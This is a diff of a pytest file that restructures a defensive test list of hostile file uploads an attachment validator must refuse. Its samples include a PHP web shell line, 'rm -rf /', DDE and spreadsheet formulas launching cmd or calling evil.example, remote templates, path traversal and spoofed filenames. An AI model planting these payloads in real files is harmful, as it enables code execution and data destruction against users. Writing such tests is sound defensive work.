@@ -7,6 +7,7 @@ import struct
 import zipfile
 import zlib
 from collections.abc import Callable
+from dataclasses import dataclass
 
 import pytest
 from papers import OFFICE_RELS, RELS, docx, odt, packed, pdf, picture, xlsx
@@ -112,84 +113,149 @@ EMBEDDED = {
 FILM = {10: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"}
 LOOP = {10: b"<< /Kids [10 0 R] >>"}
 
-REFUSED: list[tuple[str, Callable[[], bytes], str, str, str]] = [
-    ("nothing", lambda: b"", "guide.pdf", "", "attachment_empty"),
-    ("SVG", lambda: SVG, "logo.svg", "image/svg+xml", "attachment_type"),
-    ("SVG disguised as a PNG", lambda: SVG, "logo.png", "image/png", "attachment_type"),
-    ("HTML disguised as a CSV", lambda: HTML, "table.csv", "text/csv", "attachment_type"),
-    ("HTML disguised as a JPEG", lambda: HTML, "photo.jpg", "image/jpeg", "attachment_type"),
-    ("HTML in UTF-16 as a CSV", lambda: HTML.decode().encode("utf-16"), "table.csv", "", "attachment_type"),
-    ("HTML after a row of a CSV", lambda: b"a;b\n1;2\n" + HTML, "table.csv", "", "attachment_type"),
-    ("an XML file as a CSV", lambda: b"<?xml version='1.0'?><a/>", "a.csv", "", "attachment_type"),
-    ("a PHP file as a CSV", lambda: b"<?php system($_GET[0]);", "a.csv", "", "attachment_type"),
-    ("a shell script as a CSV", lambda: b"#!/bin/sh\nrm -rf /\n", "a.csv", "", "attachment_type"),
-    ("an RTF as a CSV", lambda: b"{\\rtf1\\object}", "a.csv", "", "attachment_type"),
-    ("a Windows program", lambda: b"MZ\x90\x00" + bytes(300), "setup.pdf", "", "attachment_type"),
-    ("a GIF", lambda: b"GIF89a" + bytes(40), "a.gif", "image/gif", "attachment_type"),
-    ("a PDF whose header is not at its beginning", lambda: b"\n\n" + pdf("x"), "guide.pdf", "", "attachment_disguised"),
-    ("HTML in front of a PDF", lambda: HTML + pdf("x"), "guide.pdf", "", "attachment_type"),
-    ("HTML within the head of a PDF", lambda: pdf("x").replace(b"\n%\xe2", b"\n%" + HTML + b"\n%\xe2"), "a.pdf", "", "attachment_disguised"),
-    ("a PDF that is an archive too", lambda: pdf("x") + docx("y"), "guide.pdf", "", "attachment_disguised"),
-    ("something behind a PDF", lambda: pdf("x") + b"<script>alert(1)</script>", "guide.pdf", "", "attachment_disguised"),
-    ("a PDF without its end", lambda: pdf("x")[:-30], "guide.pdf", "", "attachment_damaged"),
-    ("a PDF of noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"\n%%EOF", "guide.pdf", "", "attachment_damaged"),
-    ("a PDF with JavaScript", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=JS), "a.pdf", "", "attachment_active"),
-    ("a PDF that launches", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=LAUNCH), "a.pdf", "", "attachment_active"),
-    ("a PDF that sends a form", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=SUBMIT), "a.pdf", "", "attachment_active"),
-    ("a PDF that opens a share", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=REMOTE), "a.pdf", "", "attachment_active"),
-    ("a PDF that links to files", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=ODD_LINK), "a.pdf", "", "attachment_active"),
-    ("a PDF with a file in it", lambda: pdf("x", catalog="/Names 10 0 R", objects=EMBEDDED), "a.pdf", "", "attachment_active"),
-    ("a PDF with a film", lambda: pdf("x", catalog="/Extra 10 0 R", objects=FILM), "a.pdf", "", "attachment_active"),
-    ("a PDF form with XFA", lambda: pdf("x", catalog="/AcroForm << /XFA (x) >>"), "a.pdf", "", "attachment_active"),
-    ("a PDF behind a password", encrypted_pdf, "a.pdf", "", "attachment_encrypted"),
-    ("a zip bomb", zip_bomb, "a.docx", "", "attachment_bomb"),
-    ("a part that is folded a thousand times", folded, "a.docx", "", "attachment_bomb"),
-    ("an archive of three thousand parts", many_parts, "a.docx", "", "attachment_bomb"),
-    ("a part that is longer than it says", lying_zip, "a.docx", "", "attachment_damaged"),
-    ("a part that climbs out", lambda: packed({"[Content_Types].xml": "<T/>", "word/document.xml": "<w/>", "../../evil": "x"}), "a.docx", "", "attachment_disguised"),
-    ("a part that is a link", symlink, "a.docx", "", "attachment_disguised"),
-    ("two parts of one name", twice_named, "a.docx", "", "attachment_disguised"),
-    ("an archive behind a password", encrypted_zip, "a.docx", "", "attachment_encrypted"),
-    ("a plain archive", lambda: packed({"evil.exe": "MZ"}), "a.docx", "", "attachment_type"),
-    ("something in front of an archive", lambda: HTML + docx("x"), "a.docx", "", "attachment_type"),
-    ("something behind an archive", lambda: docx("x") + HTML, "a.docx", "", "attachment_disguised"),
-    ("a JAR named DOCX", lambda: docx("x", Evil__class=b"\xca\xfe\xba\xbe"), "a.docx", "", "attachment_active"),
-    ("a DOCX with macros", lambda: docx("x", word_vbaProject__bin=b"\xd0\xcf"), "a.docx", "", "attachment_active"),
-    ("a DOCX with an OLE object", lambda: docx("x", word_embeddings_oleObject1__bin=b"x"), "a.docx", "", "attachment_active"),
-    ("a DOCX whose template is elsewhere", lambda: docx("x", word__rels_settings__xml__rels=external("attachedTemplate", "https://evil.example/t.dotm")), "a.docx", "", "attachment_active"),
-    ("a DOCX with a picture from elsewhere", lambda: docx("x", word_r_document__xml__rels=external("image", "https://evil.example/p.png")), "a.docx", "", "attachment_active"),
-    ("a DOCX with a link to a program", lambda: docx("x", word_r_document__xml__rels=external("hyperlink", "ms-msdt:/id")), "a.docx", "", "attachment_active"),
-    ("a DOCX with DDE", lambda: docx('</w:t><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText><w:t>'), "a.docx", "", "attachment_active"),
-    ("a DOCX with entities", lambda: docx("x", word_styles__xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "a.docx", "", "attachment_active"),
-    ("an XLSX with an outside book", lambda: xlsx("x", xl_externalLinks_externalLink1__xml="<e/>"), "a.xlsx", "", "attachment_active"),
-    ("an XLSX that calls an address", lambda: xlsx("x", formula="WEBSERVICE(&quot;https://evil.example&quot;)"), "a.xlsx", "", "attachment_active"),
-    ("an XLSX with DDE", lambda: xlsx("x", formula="cmd|'/c calc'!A1"), "a.xlsx", "", "attachment_active"),
-    ("an ODT with Basic", lambda: odt("x", Basic_Standard_Module1__xml="<x/>"), "a.odt", "", "attachment_active"),
-    ("an ODT with a script", lambda: odt("x", more='<script:event-listener/>'), "a.odt", "", "attachment_active"),
-    ("an ODT with a picture from elsewhere", lambda: odt("x", more='<draw:image xlink:href="https://evil.example/x.png"/>'), "a.odt", "", "attachment_active"),
-    ("a CSV that calls a program", lambda: b"nom;valeur\nx;=cmd|'/c calc'!A1\n", "a.csv", "", "attachment_formula"),
-    ("a CSV with a link formula", lambda: b'nom,valeur\nx,"=HYPERLINK(""https://evil.example"")"\n', "a.csv", "", "attachment_formula"),
-    ("a picture of a thousand million points", lambda: png_of(40_000, 30_000), "a.png", "", "attachment_bomb"),
-    ("a picture that ends early", lambda: picture()[:400], "a.jpg", "", "attachment_damaged"),
-    ("a JPEG that is an archive too (GIFAR)", lambda: picture() + docx("x"), "a.jpg", "", "attachment_disguised"),
-    ("a JPEG named PNG", picture, "a.png", "", "attachment_disguised"),
-    ("a JPEG sent as HTML", picture, "a.jpg", "text/html", "attachment_disguised"),
-    ("a name with two endings", picture, "photo.php.jpg", "", "attachment_disguised"),
-    ("a name that turns round", picture, "photo\u202egpj.jpg", "", "attachment_disguised"),
-    ("a name that ends in EXE", picture, "photo.jpg.exe", "", "attachment_type"),
-    ("a name with a null", picture, "photo.jpg\x00.png", "", "attachment_disguised"),
-    ("a name without ending", picture, "photo", "", "attachment_disguised"),
-    ("a byte more than 10 MiB", lambda: bytes(10 * 2**20 + 1), "a.jpg", "", "attachment_too_large"),
-]  # fmt: skip
+EMPTY, TYPE, DISGUISED, DAMAGED = "attachment_empty", "attachment_type", "attachment_disguised", "attachment_damaged"
+ACTIVE, FORMULA, ENCRYPTED = "attachment_active", "attachment_formula", "attachment_encrypted"
+BOMB, TOO_LARGE = "attachment_bomb", "attachment_too_large"
 
 
-@pytest.mark.parametrize(("name", "make", "filename", "declared", "code"), REFUSED, ids=[case[0] for case in REFUSED])
-def test_hostile_upload_is_refused(
-    name: str, make: Callable[[], bytes], filename: str, declared: str, code: str
-) -> None:
+@dataclass(frozen=True)
+class Case:
+    """One upload by the name of its attack. `declared`: what it is sent as."""
+
+    name: str
+    make: Callable[[], bytes]
+    filename: str
+    code: str
+    declared: str = ""
+
+
+REFUSED = [
+    Case("nothing", lambda: b"", "guide.pdf", EMPTY),
+    Case("SVG", lambda: SVG, "logo.svg", TYPE, "image/svg+xml"),
+    Case("SVG disguised as a PNG", lambda: SVG, "logo.png", TYPE, "image/png"),
+    Case("HTML disguised as a CSV", lambda: HTML, "table.csv", TYPE, "text/csv"),
+    Case("HTML disguised as a JPEG", lambda: HTML, "photo.jpg", TYPE, "image/jpeg"),
+    Case("HTML in UTF-16 as a CSV", lambda: HTML.decode().encode("utf-16"), "table.csv", TYPE),
+    Case("HTML after a row of a CSV", lambda: b"a;b\n1;2\n" + HTML, "table.csv", TYPE),
+    Case("an XML file as a CSV", lambda: b"<?xml version='1.0'?><a/>", "a.csv", TYPE),
+    Case("a PHP file as a CSV", lambda: b"<?php system($_GET[0]);", "a.csv", TYPE),
+    Case("a shell script as a CSV", lambda: b"#!/bin/sh\nrm -rf /\n", "a.csv", TYPE),
+    Case("an RTF as a CSV", lambda: b"{\\rtf1\\object}", "a.csv", TYPE),
+    Case("a Windows program", lambda: b"MZ\x90\x00" + bytes(300), "setup.pdf", TYPE),
+    Case("a GIF", lambda: b"GIF89a" + bytes(40), "a.gif", TYPE, "image/gif"),
+    Case("a PDF whose header is not at its beginning", lambda: b"\n\n" + pdf("x"), "guide.pdf", DISGUISED),
+    Case("HTML in front of a PDF", lambda: HTML + pdf("x"), "guide.pdf", TYPE),
+    Case(
+        "HTML within the head of a PDF",
+        lambda: pdf("x").replace(b"\n%\xe2", b"\n%" + HTML + b"\n%\xe2"),
+        "a.pdf",
+        DISGUISED,
+    ),
+    Case("a PDF that is an archive too", lambda: pdf("x") + docx("y"), "guide.pdf", DISGUISED),
+    Case("something behind a PDF", lambda: pdf("x") + b"<script>alert(1)</script>", "guide.pdf", DISGUISED),
+    Case("a PDF without its end", lambda: pdf("x")[:-30], "guide.pdf", DAMAGED),
+    Case("a PDF of noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"\n%%EOF", "guide.pdf", DAMAGED),
+    Case("a PDF with JavaScript", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=JS), "a.pdf", ACTIVE),
+    Case("a PDF that launches", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=LAUNCH), "a.pdf", ACTIVE),
+    Case("a PDF that sends a form", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=SUBMIT), "a.pdf", ACTIVE),
+    Case("a PDF that opens a share", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=REMOTE), "a.pdf", ACTIVE),
+    Case(
+        "a PDF that links to files", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=ODD_LINK), "a.pdf", ACTIVE
+    ),
+    Case("a PDF with a file in it", lambda: pdf("x", catalog="/Names 10 0 R", objects=EMBEDDED), "a.pdf", ACTIVE),
+    Case("a PDF with a film", lambda: pdf("x", catalog="/Extra 10 0 R", objects=FILM), "a.pdf", ACTIVE),
+    Case("a PDF form with XFA", lambda: pdf("x", catalog="/AcroForm << /XFA (x) >>"), "a.pdf", ACTIVE),
+    Case("a PDF behind a password", encrypted_pdf, "a.pdf", ENCRYPTED),
+    Case("a zip bomb", zip_bomb, "a.docx", BOMB),
+    Case("a part that is folded a thousand times", folded, "a.docx", BOMB),
+    Case("an archive of three thousand parts", many_parts, "a.docx", BOMB),
+    Case("a part that is longer than it says", lying_zip, "a.docx", DAMAGED),
+    Case(
+        "a part that climbs out",
+        lambda: packed({"[Content_Types].xml": "<T/>", "word/document.xml": "<w/>", "../../evil": "x"}),
+        "a.docx",
+        DISGUISED,
+    ),
+    Case("a part that is a link", symlink, "a.docx", DISGUISED),
+    Case("two parts of one name", twice_named, "a.docx", DISGUISED),
+    Case("an archive behind a password", encrypted_zip, "a.docx", ENCRYPTED),
+    Case("a plain archive", lambda: packed({"evil.exe": "MZ"}), "a.docx", TYPE),
+    Case("something in front of an archive", lambda: HTML + docx("x"), "a.docx", TYPE),
+    Case("something behind an archive", lambda: docx("x") + HTML, "a.docx", DISGUISED),
+    Case("a JAR named DOCX", lambda: docx("x", Evil__class=b"\xca\xfe\xba\xbe"), "a.docx", ACTIVE),
+    Case("a DOCX with macros", lambda: docx("x", word_vbaProject__bin=b"\xd0\xcf"), "a.docx", ACTIVE),
+    Case("a DOCX with an OLE object", lambda: docx("x", word_embeddings_oleObject1__bin=b"x"), "a.docx", ACTIVE),
+    Case(
+        "a DOCX whose template is elsewhere",
+        lambda: docx("x", word__rels_settings__xml__rels=external("attachedTemplate", "https://evil.example/t.dotm")),
+        "a.docx",
+        ACTIVE,
+    ),
+    Case(
+        "a DOCX with a picture from elsewhere",
+        lambda: docx("x", word_r_document__xml__rels=external("image", "https://evil.example/p.png")),
+        "a.docx",
+        ACTIVE,
+    ),
+    Case(
+        "a DOCX with a link to a program",
+        lambda: docx("x", word_r_document__xml__rels=external("hyperlink", "ms-msdt:/id")),
+        "a.docx",
+        ACTIVE,
+    ),
+    Case(
+        "a DOCX with DDE",
+        lambda: docx("</w:t><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText><w:t>"),
+        "a.docx",
+        ACTIVE,
+    ),
+    Case(
+        "a DOCX with entities",
+        lambda: docx("x", word_styles__xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
+        "a.docx",
+        ACTIVE,
+    ),
+    Case(
+        "an XLSX with an outside book", lambda: xlsx("x", xl_externalLinks_externalLink1__xml="<e/>"), "a.xlsx", ACTIVE
+    ),
+    Case(
+        "an XLSX that calls an address",
+        lambda: xlsx("x", formula="WEBSERVICE(&quot;https://evil.example&quot;)"),
+        "a.xlsx",
+        ACTIVE,
+    ),
+    Case("an XLSX with DDE", lambda: xlsx("x", formula="cmd|'/c calc'!A1"), "a.xlsx", ACTIVE),
+    Case("an ODT with Basic", lambda: odt("x", Basic_Standard_Module1__xml="<x/>"), "a.odt", ACTIVE),
+    Case("an ODT with a script", lambda: odt("x", more="<script:event-listener/>"), "a.odt", ACTIVE),
+    Case(
+        "an ODT with a picture from elsewhere",
+        lambda: odt("x", more='<draw:image xlink:href="https://evil.example/x.png"/>'),
+        "a.odt",
+        ACTIVE,
+    ),
+    Case("a CSV that calls a program", lambda: b"nom;valeur\nx;=cmd|'/c calc'!A1\n", "a.csv", FORMULA),
+    Case(
+        "a CSV with a link formula", lambda: b'nom,valeur\nx,"=HYPERLINK(""https://evil.example"")"\n', "a.csv", FORMULA
+    ),
+    Case("a picture of a thousand million points", lambda: png_of(40_000, 30_000), "a.png", BOMB),
+    Case("a picture that ends early", lambda: picture()[:400], "a.jpg", DAMAGED),
+    Case("a JPEG that is an archive too (GIFAR)", lambda: picture() + docx("x"), "a.jpg", DISGUISED),
+    Case("a JPEG named PNG", picture, "a.png", DISGUISED),
+    Case("a JPEG sent as HTML", picture, "a.jpg", DISGUISED, "text/html"),
+    Case("a name with two endings", picture, "photo.php.jpg", DISGUISED),
+    Case("a name that turns round", picture, "photo\u202egpj.jpg", DISGUISED),
+    Case("a name that ends in EXE", picture, "photo.jpg.exe", TYPE),
+    Case("a name with a null", picture, "photo.jpg\x00.png", DISGUISED),
+    Case("a name without ending", picture, "photo", DISGUISED),
+    Case("a byte more than 10 MiB", lambda: bytes(10 * 2**20 + 1), "a.jpg", TOO_LARGE),
+]
+
+
+@pytest.mark.parametrize("case", REFUSED, ids=lambda case: case.name)
+def test_hostile_upload_is_refused(case: Case) -> None:
     with pytest.raises(AttachmentRefused) as refused:
-        prepare(make(), filename, declared)
-    assert refused.value.code == code, refused.value.message
+        prepare(case.make(), case.filename, case.declared)
+    assert refused.value.code == case.code, refused.value.message
 
 
 def appended(data: bytes) -> bytes:
